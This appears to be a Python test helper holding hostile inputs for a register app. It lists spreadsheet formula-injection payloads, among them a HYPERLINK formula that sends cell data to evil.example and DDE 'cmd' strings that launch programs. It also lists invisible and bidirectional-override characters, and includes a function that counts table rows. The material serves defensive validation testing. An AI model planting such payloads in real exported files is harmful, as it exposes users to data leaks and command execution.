"""Hostile input for tests: formulas, hidden characters, and a count of every table."""

from __future__ import annotations

from sqlalchemy import func, select

from app.models.base import Base
from app.services.register import Register

#: Cells a spreadsheet evaluates, and values that really start with ' or -.
FORMULAS = [
    '=HYPERLINK("http://evil.example/?q="&A1,"点此查看")',
    "+cmd|' /C notepad'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "'引号开头的标题",
    "''两个引号",
    "-短横开头的标题",
    "=1+1",
]

#: Characters every text field refuses, inside a value (U+0085 at either end is stripped).
HIDDEN = [
    "\x00", "\x07", "\x1b", "\x7f", "\x85", "\x9b",
    "\u202a", "\u202b", "\u202c", "\u202d", "\u202e",
    "\u2066", "\u2067", "\u2068", "\u2069",
    "\u200b", "\u200c", "\u200d", "\u200e", "\u200f",
    "\u2060", "\ufeff", "\u00ad", "\u061c", "\U000e0041",
]


def table_counts(register: Register) -> dict[str, int]:
    """The number of rows of every table: what a refused operation must leave unchanged."""
    with register.read() as s:
        return {t.name: int(s.scalar(select(func.count()).select_from(t)) or 0)
                for t in Base.metadata.sorted_tables}
